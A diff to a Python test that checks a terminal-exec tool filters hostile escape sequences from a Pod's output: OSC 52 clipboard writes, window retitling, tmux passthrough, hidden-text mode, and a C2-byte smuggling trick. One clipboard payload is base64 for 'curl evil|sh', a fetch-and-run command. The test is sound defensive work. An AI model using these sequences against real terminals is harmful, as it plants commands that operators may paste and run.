@@ -181,8 +181,9 @@ def test_a_pods_clipboard_title_and_passthrough_writes_never_reach_the_terminal(
     """Issue 33, left open by the fifteenth round: `rlark exec -t` passed the Pod's output raw, as kubectl does, so a
     hostile Pod's OSC 52 set the operator's clipboard (and `?` read it back into the Pod), OSC 2 retitled the
     window, and a tmux passthrough carried them past the operator's tmux; the modes it set outlived the session
-    (`CSI 8 m`: what the operator typed next was hidden). Drawing and the terminal's queries pass."""
-    script = (r"printf '\033]52;c;Y3VybCBldmlsfHNo\007\033]2;forged\033\\\033Ptmux;\033\033]52;c;eA==\007\033\\"
+    (`CSI 8 m`: what the operator typed next was hidden). Drawing and the terminal's queries pass. Round H33: a C2
+    dropped inside an OSC made `ESC ] 5 C2 2 ;` an OSC 52."""
+    script = (r"printf '\033]5\3022;c;eA==\007\033]52;c;Y3VybCBldmlsfHNo\007\033]2;forged\033\\\033Ptmux;\033\033]52;c;eA==\007\033\\"
               r"\033[1mdrawn\033[0m \033]8;;http://x/\007link\033]8;;\007 \033P$qm\033\\ end\n\033[8m\033[?1000h'")
     term = Pty(shell_job, "exec", "-t", JOB, "--", "sh", "-c", script)
     term.expect(MODES_RESET)  # the session's last bytes, once it ended
